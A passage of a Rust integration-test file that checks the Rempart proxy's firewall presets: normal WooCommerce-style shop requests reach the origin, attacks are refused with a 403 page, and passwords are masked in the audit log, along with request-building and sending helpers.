        .as_array()
        .unwrap()
        .iter()
        .filter_map(Value::as_u64)
        .collect();
    assert!(rules.contains(&942100) && rules.contains(&949110), "{sqli}");
    let libinjection = sqli["matches"]
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["id"] == 942100)
        .unwrap_or_else(|| panic!("{sqli}"));
    assert_eq!(libinjection["target"], "ARGS:post_password", "{sqli}");
    assert_eq!(libinjection["fragment"], "********", "{sqli}");
    assert_eq!(libinjection["data"], "", "{sqli}");
    assert!(
        !text.contains("hunter2"),
        "the password reached the audit log:\n{text}"
    );

    let env = record(ids[1].as_str());
    assert_eq!(env["outcome"], "detected", "{env}");
    assert_eq!(env["blocking_rule"], 1000002, "{env}");
}

// ---------------------------------------------------------------------------
// Checks
// ---------------------------------------------------------------------------

/// Every request reaches the origin (200, its echo, the body untouched) and
/// no blocking evaluation shows in the debug header.
async fn assert_reach_the_shop(preset: &str, rows: Vec<Req>) {
    let (origin, proxy) = shop_with_preset(preset, Mode::Block).await;
    let client = client();
    let mut failures = Vec::new();
    for r in &rows {
        let a = match send(&client, &proxy, r).await {
            Ok(a) => a,
            Err(e) => {
                failures.push(format!("{}: {e}", r.label));
                continue;
            }
        };
        let mut wrong = Vec::new();
        if a.status != 200 {
            wrong.push(format!("status {}", a.status));
        }
        if !from_origin(&a.body) {
            wrong.push("not the origin's answer".to_string());
        }
        match &a.waf {
            None => wrong.push("no x-rempart-waf header".to_string()),
            Some(waf) if waf_ids(waf).any(|id| id == "949110" || id == "949111") => {
                wrong.push("blocking evaluation matched".to_string())
            }
            Some(_) => {}
        }
        if let (Some(sent), Ok(echo)) = (&r.body, serde_json::from_str::<Value>(&a.body)) {
            if echo["body"] != String::from_utf8_lossy(sent).into_owned() {
                wrong.push("the origin got another body".to_string());
            }
        }
        if !wrong.is_empty() {
            failures.push(format!(
                "{}: {} (x-rempart-waf: {:?})",
                r.label,
                wrong.join(", "),
                a.waf
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{preset}: normal shopping refused or changed ({} of {} requests):\n{}",
        failures.len(),
        rows.len(),
        failures.join("\n")
    );
    assert!(origin.hits() >= rows.len());
}

/// Every request gets Rempart's 403 page quoting the request id, the origin
/// never sees it, and a virtual patch is the rule that matched.
async fn assert_refused(preset: &str, rows: Vec<Req>) {
    let (origin, proxy) = shop_with_preset(preset, Mode::Block).await;
    let client = client();
    let mut failures = Vec::new();
    for r in &rows {
        let before = origin.hits();
        let a = match send(&client, &proxy, r).await {
            Ok(a) => a,
            Err(e) => {
                failures.push(format!("{}: {e}", r.label));
                continue;
            }
        };
        let waf = a.waf.clone().unwrap_or_default();
        let mut wrong = Vec::new();
        if a.status != 403 {
            wrong.push(format!("status {}", a.status));
        }
        if a.reason.as_deref() != Some("waf") {
            wrong.push(format!("x-rempart-reason {:?}", a.reason));
        }
        if a.request_id.is_empty() || !a.body.contains(&a.request_id) {
            wrong.push(format!(
                "the page does not quote the request id {:?}",
                a.request_id
            ));
        }
        if origin.hits() != before {
            wrong.push("the origin saw it".to_string());
        }
        if let Some(id) = r.by {
            if !waf_ids(&waf).any(|x| x == id) {
                wrong.push(format!("rule {id} did not match"));
            }
        }
        if !wrong.is_empty() {
            failures.push(format!(
                "{}: {} (x-rempart-waf: {waf:?})",
                r.label,
                wrong.join(", ")
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{preset}: attacks not refused ({} of {}):\n{}",
        failures.len(),
        rows.len(),
        failures.join("\n")
    );
}

fn waf_ids(header: &str) -> impl Iterator<Item = &str> {
    header.split(',').map(str::trim).filter(|id| !id.is_empty())
}

/// The harness origin's echo (`{"origin": "shop", ...}`).
fn from_origin(body: &str) -> bool {
    serde_json::from_str::<Value>(body).is_ok_and(|v| v["origin"] == "shop")
}

// ---------------------------------------------------------------------------
// The proxy with a preset's WAF
// ---------------------------------------------------------------------------

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Mode {
    Block,
    Detect,
}

/// `$var` when set, else `<manifest>/../shared/<fallback>` when it exists.
fn data_dir(var: &str, fallback: &str) -> Option<PathBuf> {
    let dir = match std::env::var_os(var) {
        Some(dir) if !dir.is_empty() => PathBuf::from(dir),
        _ => Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("..")
            .join("shared")
            .join(fallback),
    };
    dir.is_dir()
        .then(|| std::fs::canonicalize(&dir).unwrap_or(dir))
}

fn crs_dir() -> PathBuf {
    data_dir("REMPART_CRS_DIR", "crs")
        .filter(|dir| dir.join("rules").is_dir())
        .unwrap_or_else(|| panic!("{CRS_MISSING}"))
}

fn plugins_dir() -> PathBuf {
    data_dir("REMPART_CRS_PLUGINS_DIR", "crs-plugins")
        .filter(|dir| {
            dir.join("wordpress-rule-exclusions")
                .join("plugins")
                .is_dir()
        })
        .unwrap_or_else(|| panic!("{PLUGINS_MISSING}"))
}

/// The preset's own `limits` and `waf` blocks, with the debug header on
/// (and `mode: detect` when asked).
fn preset_policy(preset: &str, mode: Mode) -> String {
    let waf = preset_block(preset, "waf");
    assert!(
        waf.contains("\n  mode: block\n"),
        "{preset}: the `waf` block no longer says `mode: block`"
    );
    assert!(
        !waf.contains("debug_header"),
        "{preset}: the `waf` block sets `debug_header` itself"
    );
    let mut waf = waf.replacen("waf:\n", "waf:\n  debug_header: true\n", 1);
    if mode == Mode::Detect {
        waf = waf.replacen("\n  mode: block\n", "\n  mode: detect\n", 1);
    }
    format!("{}{waf}", preset_block(preset, "limits"))
}

/// The harness origin behind Rempart running the preset's WAF, the CRS
/// folders passed to it through the variables the preset reads, and an
/// audit log next to the policy (`<proxy.dir>/audit.log`).
async fn shop_with_preset(preset: &str, mode: Mode) -> (TestOrigin, Rempart) {
    let crs = crs_dir();
    let plugins = plugins_dir();
    let origin = TestOrigin::start("shop").await;
    let (listen, admin) = (free_addr(), free_addr());
    let text = policy(listen, admin, &[origin.addr], &preset_policy(preset, mode)).replacen(
        "  threads: 2\n",
        "  threads: 2\n  audit_log: audit.log\n",
        1,
    );
    let env = [
        ("REMPART_CRS_DIR", crs.to_str().unwrap()),
        ("REMPART_CRS_PLUGINS_DIR", plugins.to_str().unwrap()),
    ];
    let proxy = Rempart::start_with(&text, listen, admin, &[], &env).await;
    (origin, proxy)
}

// ---------------------------------------------------------------------------
// Requests
// ---------------------------------------------------------------------------

/// One row of a table: a request as a browser (or a payment provider) sends it.
struct Req {
    label: String,
    method: &'static str,
    path: String,
    headers: Vec<(String, String)>,
    body: Option<Vec<u8>>,
    /// For refused requests: the rule that must have matched.
    by: Option<&'static str>,
}

impl Req {
    fn new(label: &str, method: &'static str, path: &str) -> Req {
        Req {
            label: label.to_string(),
            method,
            path: path.to_string(),
            headers: vec![
                ("host".into(), HOST.into()),
                ("user-agent".into(), CHROME.into()),
                (
                    "accept".into(),
                    "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8".into(),
                ),
                ("accept-language".into(), "fr-FR,fr;q=0.9,en;q=0.8".into()),
            ],
            body: None,
            by: None,
        }
    }

    fn header(mut self, name: &str, value: &str) -> Req {
        let name = name.to_ascii_lowercase();
        self.headers.retain(|(n, _)| *n != name);
        self.headers.push((name, value.to_string()));
        self
    }

    fn cookie(self, cookie: &str) -> Req {
        self.header("cookie", cookie)
    }

    fn method(mut self, method: &'static str) -> Req {
        self.method = method;
        self
    }

    fn body(mut self, content_type: &str, body: impl Into<Vec<u8>>) -> Req {
        self.body = Some(body.into());
        self.header("content-type", content_type)
    }

    /// jQuery's AJAX calls (wc-ajax, admin-ajax, PrestaShop's cart).
    fn xhr(self) -> Req {
        self.header("x-requested-with", "XMLHttpRequest")
            .header("accept", "application/json, text/javascript, */*; q=0.01")
            .header("origin", "https://shop.example.com")
    }

    /// The WooCommerce blocks' fetch calls to the Store API.
    fn store_api(self) -> Req {
        self.header("accept", "application/json, */*;q=0.1")
            .header("nonce", "8c1d2f3a4b")
            .header("origin", "https://shop.example.com")
            .header("referer", "https://shop.example.com/checkout/")
    }

    /// A server calling the shop: its own user agent, no browser headers.
    fn server(mut self, user_agent: &str) -> Req {
        self.headers
            .retain(|(n, _)| n != "accept-language" && n != "accept");
        self.header("user-agent", user_agent)
            .header("accept", "*/*")
    }

    fn by(mut self, rule: &'static str) -> Req {
        self.by = Some(rule);
        self
    }
}

fn get(label: &str, path: &str) -> Req {
    Req::new(label, "GET", path)
}

fn post_form<K: AsRef<str>, V: AsRef<str>>(label: &str, path: &str, fields: &[(K, V)]) -> Req {
    Req::new(label, "POST", path).body(FORM, urlencode(fields))
}

fn post_json(label: &str, path: &str, body: Value) -> Req {
    Req::new(label, "POST", path)
        .header("accept", "application/json, */*;q=0.1")
        .body("application/json", body.to_string())
}

fn post_raw(label: &str, path: &str, content_type: &str, body: &str) -> Req {
    Req::new(label, "POST", path).body(content_type, body)
}

/// Owned pairs, for tables that are extended with computed fields.
fn owned(fields: &[(&str, &str)]) -> Vec<(String, String)> {
    fields
        .iter()
        .map(|(k, v)| ((*k).to_string(), (*v).to_string()))
        .collect()
}

/// `application/x-www-form-urlencoded`, as browsers write it.
fn urlencode<K: AsRef<str>, V: AsRef<str>>(fields: &[(K, V)]) -> String {
    fields
        .iter()
        .map(|(k, v)| format!("{}={}", escape(k.as_ref()), escape(v.as_ref())))
        .collect::<Vec<_>>()
        .join("&")
}

fn escape(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for b in text.bytes() {
        match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                out.push(char::from(b))
            }
            b' ' => out.push('+'),
            _ => out.push_str(&format!("%{b:02X}")),
        }
    }
    out
}

/// What came back.
struct Answer {
    status: u16,
    waf: Option<String>,
    request_id: String,
    reason: Option<String>,
    body: String,
}

async fn send(client: &reqwest::Client, proxy: &Rempart, r: &Req) -> Result<Answer, String> {
    let method = reqwest::Method::from_bytes(r.method.as_bytes()).unwrap();
    let mut request = client.request(method, proxy.url(&r.path));
    for (name, value) in &r.headers {
        request = request.header(name.as_str(), value.as_str());
    }
    if let Some(body) = &r.body {
        request = request.body(body.clone());
    }
    let response = request
        .send()
        .await
        .map_err(|e| format!("no answer: {e}"))?;
    let header = |name: &str| {
        response
            .headers()
            .get(name)
            .map(|v| String::from_utf8_lossy(v.as_bytes()).into_owned())
    };
    let status = response.status().as_u16();
    let waf = header("x-rempart-waf");
    let request_id = header("x-request-id").unwrap_or_default();
    let reason = header("x-rempart-reason");
    let body = response.text().await.map_err(|e| format!("no body: {e}"))?;
    Ok(Answer {
        status,
        waf,
        request_id,
        reason,
        body,
    })
}
